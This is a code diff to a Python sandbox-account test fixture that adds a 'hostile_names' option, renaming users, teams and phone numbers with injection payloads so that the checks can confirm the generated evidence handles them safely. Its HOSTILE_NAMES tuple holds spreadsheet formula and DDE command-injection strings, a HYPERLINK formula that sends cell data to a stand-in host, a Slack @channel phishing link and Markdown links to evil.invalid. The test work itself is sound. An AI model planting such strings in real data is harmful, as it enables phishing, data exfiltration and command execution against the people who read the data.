@@ -34,6 +34,21 @@ USER_EXTRA_FIELD = "presence_device"
 CALL_EXTRA_FIELD = "caller_location_hint"
 EXTRA_FIELDS = frozenset({USER_EXTRA_FIELD, CALL_EXTRA_FIELD})
 
+# Names anyone allowed to rename a user, team or number can type, aimed at the people who read the
+# evidence: spreadsheet formulas (CSV injection), a Slack channel ping with a disguised link, and
+# Markdown links and images. `hostile_names=True` gives them to users, teams and numbers; the
+# first one always goes to the empty team and the unassigned number, which the checks report.
+HOSTILE_NAMES = (
+    "<!channel> key expired, sign in again at <https://evil.invalid/login|app.aircall.io>",
+    '=HYPERLINK("https://evil.invalid/?q="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "[x](https://evil.invalid)",
+    "![i](https://evil.invalid/i.png)",
+    "\t=1+2",
+)
+
 MISSED_CALL_REASONS = (
     "out_of_opening_hours",
     "short_abandoned",
@@ -119,6 +134,8 @@ class SandboxAccount:
 
     `calls` is the total number of calls; `busy_day_calls` of them are put on `busy_day` on top of
     that day's ordinary share, the rest are spread over the `days` full UTC days before `anchor`.
+    `hostile_names` renames users, teams and numbers with HOSTILE_NAMES (nothing else changes:
+    the same seed gives the same account otherwise).
     """
 
     def __init__(
@@ -134,6 +151,7 @@ class SandboxAccount:
         busy_day: date | None = None,
         busy_day_calls: int = 0,
         company_name: str = "Northwind Trading",
+        hostile_names: bool = False,
     ) -> None:
         if users < 1 or teams < 0 or numbers < 1 or calls < 0 or days < 1:
             raise ValueError("need users >= 1, numbers >= 1, teams >= 0, calls >= 0, days >= 1")
@@ -148,6 +166,7 @@ class SandboxAccount:
             raise ValueError(f"busy_day {self.busy_day} is outside the history {self.first_day} .. {self.anchor}")
         self.busy_day_calls = busy_day_calls
         self.company_name = company_name
+        self.hostile_names = hostile_names
         self.domain = f"{_slug(company_name)}.example"
         self._rng = random.Random(seed)
         self._quirk_of: dict[int, str] = {}
@@ -161,6 +180,7 @@ class SandboxAccount:
 
     def _build_users(self, count: int) -> None:
         rng = self._rng
+        hostile_names = self.hostile_names
         for offset, quirk in enumerate(QUIRKS):
             index = count - 1 - offset
             if index < 2:
@@ -184,6 +204,8 @@ class SandboxAccount:
             quirk = self._quirk_of.get(index)
             if quirk == "generic_mailbox":
                 name, email = "Support", f"support@{self.domain}"
+            elif hostile_names and index >= 2:  # the first two stay the (ordinary) declared admins
+                name = HOSTILE_NAMES[(index - 2) % len(HOSTILE_NAMES)]
             self.real_names.append(name)
             if quirk == "empty_name":
                 name = ""  # invited users who never set a name come back with ""
@@ -234,10 +256,13 @@ class SandboxAccount:
             country, formatter = COUNTRIES[index % 3]
             status = rng.choice(("open", "open", "custom", "closed"))
             label = TEAM_NAMES[index % len(TEAM_NAMES)]
+            name = f"{label} line" if index + 1 < count or count == 1 else "Old marketing line"
+            if self.hostile_names:
+                name = _hostile_name(index, count)
             self.numbers.append({
                 "id": number_id,
                 "direct_link": f"{DIRECT_LINK_ROOT}/v1/numbers/{number_id}",
-                "name": f"{label} line" if index + 1 < count or count == 1 else "Old marketing line",
+                "name": name,
                 "digits": formatter(str(rng.randrange(6 * 10**9, 8 * 10**9))),
                 "country": country,
                 "time_zone": ("Europe/Paris", "America/New_York", "Europe/London")[index % 3],
@@ -285,6 +310,8 @@ class SandboxAccount:
         for index, created in enumerate(created_times):
             team_id += rng.randint(1, 30)
             name = TEAM_NAMES[index] if index < len(TEAM_NAMES) else f"Team {index + 1}"
+            if self.hostile_names:
+                name = _hostile_name(index, count)
             self.teams.append({
                 "id": team_id,
                 "name": name,
@@ -595,6 +622,14 @@ class SandboxAccount:
                 "terminated_at": _iso(anchor_noon - timedelta(days=40 + 20 * k), millis=False),
             })
         return rows
+
+
+def _hostile_name(index: int, count: int) -> str:
+    """The last of `count` objects (the empty team, the unassigned number) gets the channel ping;
+    the others cycle through the rest of HOSTILE_NAMES."""
+    if index == count - 1:
+        return HOSTILE_NAMES[0]
+    return HOSTILE_NAMES[1 + index % (len(HOSTILE_NAMES) - 1)]
 
 
 def _ascii(text: str) -> str:
